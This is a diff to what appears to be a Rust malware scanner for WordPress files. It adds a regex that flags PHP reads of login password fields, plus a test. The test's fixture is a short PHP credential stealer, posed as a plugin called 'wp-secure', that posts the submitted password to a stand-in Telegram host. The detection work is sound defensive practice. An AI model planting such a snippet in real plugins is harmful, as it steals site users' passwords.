@@ -29,6 +29,8 @@ static MAY_REACH_A_SINK: LazyLock<Regex> = LazyLock::new(|| {
         r"wp_insert_user|wp_create_user|wp_update_user|pre_user_query|(?:imap_|mb_send_)?mail)\b",
         // A call through a value, also with a comment before its `(` (`$f/**/(`).
         r"|`|\$[a-z0-9_\x80-\xff]+\s*(?:/\*[^\n]{0,40}?\*/\s*)*\(|[\])}]\s*\(",
+        // A login form's password read: where it is sent is followed too.
+        r#"|_(?:POST|REQUEST|GET)\[\s*['"](?:pwd|pass1|user_pass|passwd)['"]"#,
     ))
     .expect("pattern compiles")
 });
@@ -1005,6 +1007,16 @@ mod tests {
         // Regression (review): line breaks counted towards the size made the junk letters'
         // skip run past the end of a file of blank lines.
         assert!(whys("store.php", &format!("A{}A", "\n".repeat(1100))).is_empty());
+    }
+
+    #[test]
+    fn a_login_password_sent_away_is_read_for_where_it_goes() {
+        // fresh78's fake plugin names no sink the first look knows: the password field it reads
+        // is why the file is followed.
+        let posted = "<?php function send($m) { $c = stream_context_create(array('http' => array('method' => 'POST', 'content' => $m)));\n\
+                      file_get_contents('https://api.telegram.example/bot1/sendMessage', false, $c); }\n\
+                      send('Password: ' . $_POST['pwd']);";
+        assert_eq!(whys("wp-content/plugins/wp-secure/wp-secure.php", posted), [Why::CredentialCollector]);
     }
 
     #[test]
